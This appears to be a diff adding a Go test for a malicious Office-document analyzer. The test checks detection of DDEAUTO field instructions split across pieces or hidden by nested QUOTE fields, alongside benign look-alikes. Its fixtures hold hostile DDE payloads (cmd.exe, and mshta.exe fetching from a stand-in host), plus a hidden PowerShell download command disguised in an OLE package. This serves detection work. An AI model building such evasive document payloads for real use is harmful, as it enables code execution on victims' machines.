@@ -107,6 +107,46 @@ func TestWordBinaryDDE(t *testing.T) {
 	}
 }
 
+// TestWordDDEPieces: a DDEAUTO instruction whose text is split over
+// pieces stored apart (8-bit and UTF-16, in reverse order with filler
+// between: the raw stream shows no DDE instruction), and one split by a
+// nested field ("DD{QUOTE}EAUTO", or spelled by a nested field's result),
+// are found through the piece table and nested-field results. Benign
+// twins: split HYPERLINK and PAGE fields, nested QUOTE in an ordinary
+// field, DDEAUTO named in running text.
+func TestWordDDEPieces(t *testing.T) {
+	type P = testdoc.WordPiece
+	pos := map[string][]P{
+		"two pieces": {{Text: "Dear customer,\r\x13 DD", Wide: false}, {Text: "EAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\" \x14\x15\rRegards", Wide: true}},
+		"three pieces": {{Text: "Hello \x13D", Wide: true}, {Text: "DEA", Wide: false}, {Text: "UTO c:\\Windows\\System32\\mshta.exe http://example.invalid/a \x15", Wide: true}},
+		"nested empty": {{Text: "x \x13DD\x13 QUOTE \"\" \x14\x15EAUTO c:\\windows\\system32\\cmd.exe \"/c calc\"\x15 y", Wide: false}},
+		"nested spells": {{Text: "x \x13\x13 QUOTE 68 68 69 \x14DDE\x15 c:\\windows\\system32\\cmd.exe \"/c calc\" \x15 y", Wide: true}},
+	}
+	for name, pieces := range pos {
+		doc := testdoc.WordDocPieces(pieces)
+		r := AnalyzeOLE(doc, Limits{})
+		if r.Kind != "doc" || len(r.DDE) == 0 || !strings.HasPrefix(strings.ToUpper(r.DDE[0]), "DDE") {
+			t.Errorf("%s: %+v", name, r)
+		}
+		// the raw stream alone does not show it
+		raw := &Report{}
+		raw.wordFields(streamOf(t, doc, "WordDocument"))
+		if len(raw.DDE) > 0 {
+			t.Errorf("%s: test document is not split: %q", name, raw.DDE)
+		}
+	}
+	neg := map[string][]P{
+		"split hyperlink": {{Text: "See \x13 HYPER", Wide: false}, {Text: "LINK \"https://example.com/dde\" \x14site\x15 and \x13 PA", Wide: true}, {Text: "GE \x14 3\x15.", Wide: false}},
+		"nested quote":    {{Text: "\x13 IF \x13 QUOTE 1 \x14 1\x15 = 1 \"DDE\" \"no\" \x14DDE\x15 text", Wide: true}},
+		"running text":    {{Text: "Never enable DDE", Wide: false}, {Text: "AUTO links: see \x13 REF ddeauto \x14x\x15.", Wide: true}},
+	}
+	for name, pieces := range neg {
+		if r := AnalyzeOLE(testdoc.WordDocPieces(pieces), Limits{}); len(r.DDE) > 0 {
+			t.Errorf("benign %s: %q", name, r.DDE)
+		}
+	}
+}
+
 func TestOLEPackageCommand(t *testing.T) {
 	cmd := testdoc.Ole10Native("readme.txt", `C:\Windows\System32\cmd.exe`, 1, `cmd.exe /c powershell -w hidden -c "iwr http://example.invalid/a"`, nil)
 	exe := testdoc.Ole10Native("invoice.pdf", `C:\Users\a\invoice.exe`, 3, `C:\Temp\invoice.exe`, append([]byte("MZ"), make([]byte, 64)...))
